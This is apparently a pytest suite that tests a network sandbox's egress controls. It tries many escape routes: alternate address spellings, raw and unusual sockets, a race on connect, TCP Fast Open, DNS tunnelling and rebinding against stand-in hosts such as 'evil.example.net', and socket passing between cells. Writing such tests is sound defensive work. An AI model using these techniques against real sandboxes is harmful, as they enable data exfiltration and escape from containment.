"""Attacks on the way out of a cell: reaching what no rule names. Each is first shown to work without a cell, from the
same place in the same network, or with the layer that refuses it turned off."""

import json
import socket
import struct

import pytest

from attacks import helper
from conftest import skip_because
from internet import (A, OTHER, OTHER6, PRELUDE, PRIVATE, PYTHON, SPECIAL, SPECIAL6, TXT, WEB, WEB6, Answer, cell,
                      internet, lab, net, packed_name, question)    # noqa: F401: fixtures are used by their names

EVERYTHING = ["0.0.0.0/0:1-65535", "[::/0]:1-65535", "udp://0.0.0.0/0:1-65535", "udp://[::/0]:1-65535"]


class Witness:
    """A server that nobody may reach: it remembers who did."""

    def __init__(self, lab, address, port=0, kind=socket.SOCK_STREAM):
        self.visits, self.lab, self.kind = [], lab, kind
        if kind == socket.SOCK_STREAM:
            self.port = lab.serve(address, self.visit, port)
        else:
            self.own = lab.make(kind, address, port)
            self.port = self.own.getsockname()[1]

    def visit(self, connection):
        self.visits.append(connection.getpeername())
        connection.sendall(b"r")

    def datagrams(self):
        self.own.setblocking(False)
        found = []
        while True:
            try:
                found.append(self.own.recv(65536))
            except BlockingIOError:
                return found


def reach(address, port):
    return f"print(outcome(lambda: connect({address!r}, {port}, 5).recv(1)))"


# ---- Addresses that no rule names ----

@pytest.mark.parametrize("address", [OTHER, OTHER6, *SPECIAL, *SPECIAL6])
def test_direct_addresses(cell, lab, address):
    """Layer: relay. Special ranges stay closed even to rules for everything."""
    witness = Witness(lab, address)
    code = reach(address, witness.port)
    assert cell.bare(code) == "worked\n" and len(witness.visits) == 1
    rules = [f"{WEB}:1-65535", f"[{WEB6}]:1-65535"]
    wide = EVERYTHING if address not in (OTHER, OTHER6, "64:ff9b::5db8:d822") else []
    for given in filter(None, (rules, wide)):
        result = cell.result(code, *given)
        assert result.out == "EACCES" and result.denials[0]["layer"] == "relay", result.err
    assert len(witness.visits) == 1


SPELLINGS = ["167772165", "0xa000005", "01200000005", "10.5", "012.0.0.5", "0x0a.0.0.5", "10.0.5", "::ffff:10.0.0.5",
             "::ffff:a00:5", "0:0:0:0:0:ffff:10.0.0.5"]


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_spellings(cell, lab, spelling):
    """Layer: relay. What counts is the address that arrives, not how it was written."""
    witness = Witness(lab, PRIVATE)
    code = f"print(outcome(lambda: socket.create_connection(({spelling!r}, {witness.port}), 5).recv(1)))"
    assert cell.bare(code) == "worked\n" and len(witness.visits) == 1
    result = cell.result(code, *EVERYTHING)
    assert result.out == "EACCES" and len(witness.visits) == 1
    assert result.refused() == [("network.connect", f"{PRIVATE}:{witness.port}")]


@pytest.mark.parametrize("address", ["127.0.0.1", "0.0.0.0", "127.1.2.3", "::1", "::", "::ffff:127.0.0.1",
                                     "::ffff:0.0.0.0"])
def test_the_hosts_loopback(cell, lab, address):
    """Layer: network namespace. Loopback is the cell's own, however it is called and whatever the rules."""
    witness = Witness(lab, "::1" if address in ("::1", "::") else "127.0.0.1")
    if address == "127.1.2.3":
        witness = Witness(lab, address)
    code = reach(address, witness.port)
    assert cell.bare(code) == "worked\n" and len(witness.visits) == 1
    assert cell.result(code, *EVERYTHING).out != "worked" and len(witness.visits) == 1


def test_broadcast_and_multicast(cell, lab):
    """Layer: relay."""
    code = """
for address in "255.255.255.255", "224.0.0.251", "239.1.2.3", "ff02::1", "ff05::2":
    made = socket.socket(family(address), socket.SOCK_DGRAM)
    if family(address) == socket.AF_INET:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    print(outcome(made.sendto, b"x", (address, 5353)))
"""
    result = cell.result(code, *EVERYTHING)
    assert set(result.out.split()) == {"EACCES"} and len(result.denials) == 5


# ---- What nobody looks at beforehand ----

def test_datagrams_that_nobody_looks_at(cell, lab):
    """Layer: relay. sendmsg() is not looked at: the datagrams are sent, and go nowhere."""
    witness, echo = Witness(lab, OTHER, kind=socket.SOCK_DGRAM), lab.udp_echo(WEB)
    code = f"""
made = socket.socket(type=socket.SOCK_DGRAM)
for _ in range(20):
    made.sendmsg([b"secret"], [], 0, ({OTHER!r}, {witness.port}))
made.settimeout(20)
made.sendto(b"after", ({WEB!r}, {echo}))
print(made.recv(10))
"""
    assert cell.bare(code) == "b'after'\n" and len(witness.datagrams()) == 20
    assert cell.says(code, f"udp://{WEB}:{echo}", off=["relay"]) == "b'after'" and len(witness.datagrams()) == 20
    result = cell.result(code, f"udp://{WEB}:{echo}")
    assert result.out == "b'after'" and witness.datagrams() == []
    assert result.refused() == [("network.send", f"udp://{OTHER}:{witness.port}")] and result.denials[0]["count"] == 20


# ---- A thread that changes the address ----

@pytest.mark.slow
def test_the_address_flips_while_connect_is_answered(cell, lab, workspace):
    """Layer: relay. The look beforehand loses this race, and is not what keeps the door: with a relay that does not
    judge what arrives, the attack wins."""
    port = lab.says(WEB, b"a")
    witness = Witness(lab, OTHER, port)
    program = helper("flip_address", workspace)
    arguments = [str(program), "connect", WEB, OTHER, str(port)]
    bare = json.loads(lab.bare(*arguments, "200", env=cell.environment, cwd=workspace).out)
    assert bare["refused"] > 0 and bare["allowed"] > 0
    before = len(witness.visits)
    lost = json.loads(cell.run(*arguments, "2000", flags=net(f"{WEB}:{port}"), off=["relay"], timeout=120).out)
    assert lost["refused"] > 0 and len(witness.visits) > before
    before = len(witness.visits)
    found = json.loads(cell.run(*arguments, "4000", flags=net(f"{WEB}:{port}"), timeout=120).out)
    assert found["refused"] == 0 and len(witness.visits) == before
    assert found["allowed"] > 100 and found["eacces"] > 100 and found["other"] == 0, found
    assert found["econnrefused"] > 0, "no try was quick enough to have won against the look beforehand"


@pytest.mark.slow
def test_the_address_flips_while_a_datagram_is_sent(cell, lab, workspace):
    echo = lab.udp_echo(WEB)
    witness = Witness(lab, OTHER, echo, kind=socket.SOCK_DGRAM)
    program = helper("flip_address", workspace)
    arguments = [str(program), "send", WEB, OTHER, str(echo)]
    lab.bare(*arguments, "5000", env=cell.environment, cwd=workspace)
    assert len(witness.datagrams()) > 0
    cell.run(*arguments, "2000", flags=net(f"udp://{WEB}:{echo}"), off=["relay"], timeout=120)
    assert len(witness.datagrams()) > 0
    ran = cell.run(*arguments, "4000", flags=net(f"udp://{WEB}:{echo}"), timeout=120)
    assert json.loads(ran.out)["eacces"] > 100 and witness.datagrams() == []


# ---- Sockets of other kinds ----

KINDS = {
    "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
    "raw ip": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    "raw 6": (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP),
    "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0),
    "packet datagram": (socket.AF_PACKET, socket.SOCK_DGRAM, 0),
    "netlink netfilter": (socket.AF_NETLINK, socket.SOCK_RAW, 12),
    "netlink diag": (socket.AF_NETLINK, socket.SOCK_RAW, 4),
    "netlink xfrm": (socket.AF_NETLINK, socket.SOCK_RAW, 6),
    "netlink generic": (socket.AF_NETLINK, socket.SOCK_RAW, 16),
    "vsock": (40, socket.SOCK_STREAM, 0),
    "vsock datagram": (40, socket.SOCK_DGRAM, 0),
    "mptcp": (socket.AF_INET, socket.SOCK_STREAM, 262),
    "mptcp 6": (socket.AF_INET6, socket.SOCK_STREAM, 262),
    "udplite": (socket.AF_INET, socket.SOCK_DGRAM, 136),
    "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132),
    "dccp": (socket.AF_INET, 6, 33),
    "icmp": (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "l2tp": (socket.AF_INET, socket.SOCK_DGRAM, 115),
    "alg": (38, socket.SOCK_SEQPACKET, 0),
    "xdp": (44, socket.SOCK_RAW, 0),
    "smc": (43, socket.SOCK_STREAM, 0),
    "tipc": (30, socket.SOCK_STREAM, 0),
    "bluetooth": (31, socket.SOCK_RAW, 1),
    "can": (29, socket.SOCK_RAW, 1),
    "key": (15, socket.SOCK_RAW, 2),
}


@pytest.mark.parametrize("kind", KINDS.values(), ids=KINDS.keys())
def test_sockets_of_other_kinds(cell, lab, kind):
    """Layer: seccomp, and for raw ones capabilities. None has any."""
    code = f"print(outcome(socket.socket, *{tuple(map(int, kind))}))"
    assert cell.says(code, *EVERYTHING) in ("EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT")


@pytest.mark.parametrize("kind", ["vsock", "mptcp", "udplite", "netlink netfilter"])
def test_seccomp_is_what_refuses_them(cell, lab, kind):
    """Those that this kernel has at all."""
    code = f"print(outcome(socket.socket, *{tuple(map(int, KINDS[kind]))}))"
    if cell.bare(code) != "worked\n":
        skip_because("this kernel has no such sockets")
    assert cell.says(code, f"{WEB}:80") != "worked"
    assert cell.says(code, f"{WEB}:80", off=["seccomp"]) == "worked"


def test_other_kinds_lead_nowhere_even_without_seccomp(cell, lab):
    """Layer: relay and network namespace. Multipath connections are connections, other datagrams go nowhere."""
    witness = Witness(lab, OTHER)
    code = f"""
made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
made.settimeout(5)
print(outcome(lambda: (made.connect(({OTHER!r}, {witness.port})), made.recv(1))))
"""
    if "worked" not in cell.bare(code):
        skip_because("this kernel has no multipath connections")
    before = len(witness.visits)
    assert cell.result(code, f"{WEB}:80", off=["seccomp"]).out != "worked" and len(witness.visits) == before


def test_netlink_changes_nothing(cell, lab):
    """Layer: capabilities. Routes can be looked at, as `ip route` does, and not be changed."""
    code = """
def say(kind, flags, body):
    made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    made.send(struct.pack("=IHHII", 16 + len(body), kind, 1 | flags, 1, 0) + body)
    answer = made.recv(65536)
    length, kind, _, _, _ = struct.unpack("=IHHII", answer[:16])
    return kind, errno.errorcode.get(-struct.unpack("=i", answer[16:20])[0], "fine") if kind == 2 else "data"
print(say(26, 0x300, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 0, 0, 0, 0, 0)))
print(say(25, 4, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0)))
print(say(16, 4, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1)))
"""
    lines = cell.says(code, f"{WEB}:80").split("\n")
    assert lines[1:] == ["(2, 'EPERM')", "(2, 'EPERM')"]


# ---- Options of sockets ----

OPTIONS = {
    "mark": f"made.setsockopt(socket.SOL_SOCKET, 36, {0xcb})",
    "transparent": "made.setsockopt(socket.IPPROTO_IP, 19, 1)",
    "source route": "made.setsockopt(socket.IPPROTO_IP, 4, bytes([131, 11, 4]) + socket.inet_aton(TARGET) + "
                    "socket.inet_aton(ALLOWED) + bytes(1))",
    "strict source route": "made.setsockopt(socket.IPPROTO_IP, 4, bytes([137, 11, 4]) + socket.inet_aton(ALLOWED) + "
                           "socket.inet_aton(TARGET) + bytes(1))",
    "forced buffer": "made.setsockopt(socket.SOL_SOCKET, 32, 1 << 30)",
    "priority": "made.setsockopt(socket.SOL_SOCKET, 12, 7)",
}


@pytest.mark.parametrize("option", OPTIONS.values(), ids=OPTIONS.keys())
def test_options_that_need_privileges(cell, lab, option):
    """Layer: capabilities."""
    code = f"ALLOWED, TARGET = {WEB!r}, {OTHER!r}\nmade = socket.socket()\nprint(outcome(lambda: {option}))"
    assert cell.says(code, f"{WEB}:80") == "EPERM"


@pytest.mark.slow
@pytest.mark.parametrize("how", ["mark", "transparent", "source route", "strict source route"])
def test_options_do_not_help_even_with_capabilities(cell, lab, how):
    """Layer: relay. A first packet that carries the relay's mark arrives at the relay, which did not send for it."""
    witness = Witness(lab, OTHER)
    code = f"""
ALLOWED, TARGET = {WEB!r}, {OTHER!r}
for target in TARGET, ALLOWED:
    made = socket.socket()
    made.settimeout(3)
    print(outcome(lambda: {OPTIONS[how]}))
    print(outcome(lambda: (made.connect((target, {witness.port})), made.recv(1))))
"""
    for off in ["capabilities"], ["capabilities", "seccomp"]:
        result = cell.result(code, f"{WEB}:1-65535", off=off)
        words = result.out.split()
        assert len(words) == 4, result.err
        assert words[1] != "worked"
        assert witness.visits == []


FAST_OPEN = """
FASTOPEN = 0x20000000
def quick(address, port, how):
    made = socket.socket()
    if how == "sendto":
        made.sendto(b"x", FASTOPEN, (address, port))
    elif how == "sendmsg":
        made.sendmsg([b"x"], [], FASTOPEN, (address, port))
    else:
        made.setsockopt(socket.IPPROTO_TCP, 30, 1)
        made.connect((address, port))
        made.sendall(b"x")
    made.settimeout(20)
    assert made.recv(1) != b""
for how in "sendto", "sendmsg", "connect":
    print(outcome(quick, *REFUSED, how), outcome(quick, *ALLOWED, how))
"""


def test_fast_open(cell, lab):
    """Layer: seccomp. And without that the relay, alone, as nobody looks at such a connection beforehand: data in the
    first packet goes no further than the packet."""
    witness, allowed = Witness(lab, OTHER), lab.echo(WEB)
    code = f"REFUSED, ALLOWED = ({OTHER!r}, {witness.port}), ({WEB!r}, {allowed})\n" + FAST_OPEN
    assert cell.bare(code).split() == ["worked"] * 6
    before = len(witness.visits)
    assert cell.says(code, f"{WEB}:{allowed}") == "EPERM EPERM\nEPERM EPERM\nEACCES worked"
    result = cell.result(code, f"{WEB}:{allowed}", off=["seccomp"])
    assert result.out == "ECONNREFUSED worked\nECONNREFUSED worked\nEACCES worked", result.err
    assert len(witness.visits) == before and result.refused() == [("network.connect", f"{OTHER}:{witness.port}")]
    out = cell.says(code, f"{WEB}:{allowed}", off=["seccomp", "relay"])
    assert out == "worked worked\nworked worked\nEACCES worked" and len(witness.visits) == before + 2


def test_leaving_a_connection_for_another(cell, lab):
    """Layer: relay. connect(AF_UNSPEC) and once more, on streams and datagrams; sendto on a connected socket."""
    allowed, echo = lab.says(WEB, b"a"), lab.udp_echo(WEB)
    witness, datagrams = Witness(lab, OTHER), Witness(lab, OTHER, kind=socket.SOCK_DGRAM)
    code = f"""
def leave(made):
    if libc.connect(made.fileno(), struct.pack("=H14x", 0), 16) < 0:
        raise OSError(ctypes.get_errno(), "")
made = connect({WEB!r}, {allowed})
made.recv(1)
leave(made)
print(outcome(lambda: (made.connect(({OTHER!r}, {witness.port})), made.recv(1))))
made = connect({WEB!r}, {echo}, 5, socket.SOCK_DGRAM)
made.send(b"x")
made.recv(1)
print(outcome(made.sendto, b"x", ({OTHER!r}, {datagrams.port})))
leave(made)
print(outcome(made.connect, ({OTHER!r}, {datagrams.port})))
outcome(made.sendmsg, [b"x"], [], 0, ({OTHER!r}, {datagrams.port}))
made = connect({WEB!r}, {echo}, 20, socket.SOCK_DGRAM)
made.send(b"after")
print(made.recv(10))
"""
    assert cell.bare(code).split() == ["worked"] * 3 + ["b'after'"]
    before = len(witness.visits), len(datagrams.datagrams())
    assert before[0] == 1 and before[1] >= 2
    assert cell.says(code, f"{WEB}:{allowed}", f"udp://{WEB}:{echo}") == "EACCES\nEACCES\nEACCES\nb'after'"
    assert len(witness.visits) == 1 and datagrams.datagrams() == []


def test_absurd_addresses(cell, lab):
    """Lengths and families of all kinds: the kernel's own errors, and everything still works afterwards."""
    port = lab.says(WEB, b"x")
    code = f"""
good = struct.pack("=HH4s8x", 2, socket.htons({port}), socket.inet_aton({WEB!r}))
for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
    for domain in socket.AF_INET, socket.AF_INET6, socket.AF_UNIX:
        for length in 0, 1, 2, 3, 7, 8, 15, 16, 24, 27, 28, 110, 128, 129, 4096, 0x7fffffff, 0xffffffff:
            for start in 0, 1, 2, 10, 16, 40, 65535:
                made = socket.socket(domain, kind)
                made.setblocking(False)
                data = struct.pack("=H", start) + good[2:] + bytes(200)
                libc.connect(made.fileno(), data, ctypes.c_uint32(length))
                libc.sendto(made.fileno(), b"x", 1, 0, data, ctypes.c_uint32(length))
                made.close()
made = socket.socket()
for where in 0, 1, 0xffffffffff600000, 0x7ffffffff000, (1 << 64) - 8:
    libc.connect(made.fileno(), ctypes.c_void_p(where), 16)
    libc.sendto(made.fileno(), b"x", 1, 0, ctypes.c_void_p(where), 16)
print(outcome(connect, {WEB!r}, {port}))
"""
    assert cell.says(code, f"{WEB}:{port}") == "worked"


# ---- The relay itself ----

def test_talking_to_the_relay(cell, lab):
    """Its sockets in the cell's network are no way to anything, and it is not impressed."""
    witness, allowed = Witness(lab, OTHER), lab.says(WEB, b"x")
    code = f"""
own = connect({WEB!r}, {allowed}).getsockname()[0]
for address in "127.0.0.1", "::1", own, "fd00:cb::1":
    for port in 1, 2, 53:
        for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
            made = socket.socket(family(address), kind)
            made.settimeout(1)
            first = outcome(made.connect, (address, port))
            last = first == "worked" and (outcome(made.sendall, b"CONNECT {OTHER}:{witness.port} HTTP/1.1\\r\\n\\r\\n"),
                                          outcome(lambda: print("heard", made.recv(10))))
made = socket.socket()
made.bind((own, 0))
print(outcome(made.connect, ({OTHER!r}, {witness.port})))
print(outcome(connect, {WEB!r}, {allowed}))
"""
    result = cell.result(code, f"{WEB}:{allowed}")
    assert "heard b'" not in result.out.replace("heard b''", ""), result.out
    assert result.out.split("\n")[-2:] == ["EACCES", "worked"], result.err
    assert witness.visits == [] and result.network["connections"] == 2


def test_the_relays_port_is_not_there(cell, lab):
    """As for any other port of loopback at which nobody listens."""
    port = lab.says(WEB, b"x")
    code = f"""
own = connect({WEB!r}, {port}).getsockname()[0]
print(*(outcome(connect, address, 1, 5) for address in ("127.0.0.1", "::1", own, "fd00:cb::1")))
"""
    assert cell.says(code, f"{WEB}:{port}") == "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED"


def test_taking_the_relays_place(cell, lab):
    """A server in the cell at any address gets what the cell sends to that address of its own, and no more."""
    port = lab.says(WEB, b"outside")
    code = f"""
def listen(address, port, **options):
    made = socket.socket()
    for name in options:
        made.setsockopt(socket.IPPROTO_IP, options[name], 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.bind((address, port))
    made.listen()
    return made
print(outcome(listen, "127.0.0.1", 1), outcome(listen, "0.0.0.0", 1))
kept = []
for address in {WEB!r}, "0.0.0.0":
    outcome(lambda: kept.append(listen(address, {port}, free=15)))
print(connect({WEB!r}, {port}).recv(10))
"""
    out = cell.says(code, f"{WEB}:{port}").split("\n")
    assert "worked" not in out[0].split()[:1] and out[1] == "b'outside'"


def test_the_relay_can_not_be_touched(cell, lab):
    """Layer: pid namespace. No process but the cell's own is there."""
    code = """
names = [open(f"/proc/{pid}/comm").read().strip() for pid in os.listdir("/proc") if pid.isdigit()]
print(sorted(names))
"""
    assert "relay" not in cell.says(code, f"{WEB}:80") and "exe" not in eval(cell.says(code, f"{WEB}:80"))


# ---- Names as a way out ----

def test_other_name_servers(cell, lab):
    """Layer: relay. A resolver of one's own choice is a destination like any other."""
    heard = Witness(lab, OTHER, 53, kind=socket.SOCK_DGRAM)
    stream = Witness(lab, OTHER, 53)
    asked = question("secret.evil.example.net", A)
    code = f"""
made = socket.socket(type=socket.SOCK_DGRAM)
print(outcome(made.sendto, {asked!r}, ({OTHER!r}, 53)))
outcome(made.sendmsg, [{asked!r}], [], 0, ({OTHER!r}, 53))
print(outcome(lambda: connect({OTHER!r}, 53, 5).sendall(b"x")))
"""
    assert cell.bare(code).split() == ["worked"] * 2
    assert len(heard.datagrams()) == 2 and len(stream.visits) == 1
    assert cell.says(code, "api.example.com:443", f"{WEB}:53").split() == ["EACCES"] * 2
    assert heard.datagrams() == [] and len(stream.visits) == 1


def test_tunnelling_by_names(cell, lab):
    """Layer: resolver. A name that no rule allows never leaves, of whatever type, length or form."""
    lab.names.set("api.example.com", WEB)
    names = ["x" * 63 + ".evil.example.net", ".".join(["y" * 60] * 3) + ".net", "api.example.com.evil.example.net",
             "secret.api.example.com", "com", "example.com", "xn--secret-kva.example"]
    questions = [question(name, kind) for name in names for kind in (A, 28, TXT, 15, 65, 255)]
    questions += [question("api.example.com", kind) for kind in (TXT, 15, 12, 16, 33)]
    questions += [question("", A, labels=[b"api", b"example", b"com", b"x" * 10]),
                  question("api.example.com", A) + b"appended data that goes nowhere" * 5]
    code = f"""
server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
for data in {questions!r}:
    made = connect(server, 53, 5, socket.SOCK_DGRAM)
    made.send(data)
    made.recv(4096)
    stream = connect(server, 53)
    stream.sendall(struct.pack("!H", len(data)) + data)
    stream.recv(4096)
print("asked")
"""
    assert cell.says(code, "api.example.com:443") == "asked"
    assert lab.names.names() <= {"api.example.com"}
    assert {kind for _, kind, _ in lab.names.asked} <= {A, 28}


def test_nothing_of_a_question_but_its_name_leaves(cell, lab):
    """Layer: resolver. Letter case and numbers of the code's choice are not what the outside sees."""
    lab.names.set("api.example.com", WEB)
    raw = []
    before = lab.names.answer
    lab.names.answer = lambda asked, over_udp: (raw.append(asked), before(asked, over_udp))[1]
    try:
        asked = question("aPI.eXAMPLE.cOM", A, number=0xbeef, flags=0x0170)
        code = f"""
server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
made = connect(server, 53, 20, socket.SOCK_DGRAM)
made.send({asked!r} + b"secret")
print(len(made.recv(100)) > 20)
"""
        assert cell.says(code, "api.example.com:443") == "True"
    finally:
        lab.names.answer = before
    assert raw and all(packed_name("api.example.com") in data and b"secret" not in data for data in raw)
    assert all(struct.unpack("!H", data[2:4])[0] == 0x0100 for data in raw)


def test_rebinding_many_times(cell, lab):
    """Layer: resolver and relay. However often the name turns, the private address is never reached."""
    witness = Witness(lab, PRIVATE)
    allowed = lab.says(WEB, b"a", witness.port)
    lab.names.script("evil.example.com",
                     lambda kind, times: Answer([(A, WEB if times % 2 == 0 else PRIVATE, 0)] if kind == A else []))
    code = f"""
seen = set()
for _ in range(60):
    try:
        made = socket.create_connection(("evil.example.com", {allowed}), 5)
        seen.add((made.getpeername()[0], made.recv(1)))
    except OSError as problem:
        seen.add(type(problem).__name__)
    seen.add(outcome(connect, {PRIVATE!r}, {allowed}, 5))
print(sorted(map(str, seen)))
"""
    assert PRIVATE in cell.bare(code)
    before = len(witness.visits)
    out = cell.says(code, f"evil.example.com:{allowed}")
    assert f"('{WEB}', b'a')" in out and PRIVATE not in out and "worked" not in out and "EACCES" in out
    assert len(witness.visits) == before


def test_an_answer_of_a_stranger(cell, lab):
    """Layer: network namespace. What the code sends itself from "the name server" is believed by nobody but itself."""
    witness = Witness(lab, OTHER)
    code = f"""
made = socket.socket(type=socket.SOCK_DGRAM)
made.setsockopt(socket.IPPROTO_IP, 15, 1)
print(outcome(made.bind, ("127.0.0.53", 53)) != "", outcome(made.sendto, b"x" * 50, ("127.0.0.53", 53)) != "")
print(outcome(connect, {OTHER!r}, {witness.port}))
"""
    assert cell.says(code, "api.example.com:1-65535").endswith("EACCES") and witness.visits == []


# ---- Services of the host ----

def test_abstract_sockets_of_the_host(cell, lab):
    """Layer: network namespace (and Landlock)."""
    name = "\0cellblock-attack-test"
    stream = lab.make(socket.SOCK_STREAM, name, backlog=8, family=socket.AF_UNIX)
    datagrams = lab.make(socket.SOCK_DGRAM, name + "-d", family=socket.AF_UNIX)
    code = f"""
print(outcome(socket.socket(socket.AF_UNIX).connect, {name!r}))
print(outcome(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto, b"x", {name + '-d'!r}))
"""
    assert cell.bare(code).split() == ["worked"] * 2 and datagrams.recv(10) == b"x"
    for off in [], ["landlock"]:
        assert "worked" not in cell.says(code, *EVERYTHING, off=off)
    stream.close(), datagrams.close()


def test_a_socket_as_standard_input(cell, lab):
    """Layer: descriptors. A socket of the host does not enter the cell, not even as a stream that the caller gives."""
    witness = Witness(lab, OTHER, kind=socket.SOCK_DGRAM)
    code = f"""
for number in 0, 1, 2:
    print(outcome(lambda: socket.socket(fileno=os.dup(number)).sendto(b"secret", ({OTHER!r}, {witness.port}))))
"""
    for stream in "stdin", "stdout", "stderr":
        with lab.make(socket.SOCK_DGRAM) as given:
            program = cell.start(PYTHON, "-c", PRELUDE + code, flags=net(f"{WEB}:80"), **{stream: given})
            out, _ = program.communicate(timeout=20)
            assert out is None or out.split() == [b"ENOTSOCK"] * 3
    assert witness.datagrams() == []


# ---- Between cells ----

GIVER = """
listener = socket.socket(socket.AF_UNIX)
listener.bind("door")
listener.listen()
print("ready", flush=True)
guest, _ = listener.accept()
sockets = [socket.socket(), socket.socket(type=socket.SOCK_DGRAM), connect(ADDRESS, PORT)]
socket.send_fds(guest, [b"x"], [made.fileno() for made in sockets])
guest.recv(1)
"""
TAKER = """
guest = socket.socket(socket.AF_UNIX)
guest.connect("door")
_, numbers, _, _ = socket.recv_fds(guest, 1, 3)
stream, datagrams, connected = (socket.socket(fileno=number) for number in numbers)
stream.settimeout(5)
print(outcome(lambda: (stream.connect((OTHER, OTHER_PORT)), stream.recv(1))))
print(outcome(datagrams.sendto, b"x", (OTHER, DATAGRAM_PORT)))
outcome(datagrams.sendmsg, [b"x"], [], 0, (OTHER, DATAGRAM_PORT))
connected.settimeout(20)
connected.sendall(b"hello")
print(connected.recv(10))
"""


def test_sockets_passed_to_another_cell(cell, lab):
    """Layer: relay. A socket belongs to the network of the cell that made it: whoever has it gets what that cell may,
    and what only the other cell may is not to be had by it."""
    echo = lab.echo(WEB)
    witness, datagrams = Witness(lab, OTHER), Witness(lab, OTHER, kind=socket.SOCK_DGRAM)
    giver = cell.start(PYTHON, "-c", PRELUDE + f"ADDRESS, PORT = {WEB!r}, {echo}\n" + GIVER, flags=net(f"{WEB}:{echo}"))
    assert giver.stdout.readline() == b"ready\n", giver.stderr.read()
    code = f"OTHER, OTHER_PORT, DATAGRAM_PORT = {OTHER!r}, {witness.port}, {datagrams.port}\n" + TAKER
    rules = [f"{OTHER}:{witness.port}", f"udp://{OTHER}:{datagrams.port}"]
    lines = cell.says(code, *rules).split("\n")
    giver.communicate(timeout=20)
    assert lines[0] != "worked" and lines[2] == "b'hello'"
    assert witness.visits == [] and datagrams.datagrams() == []
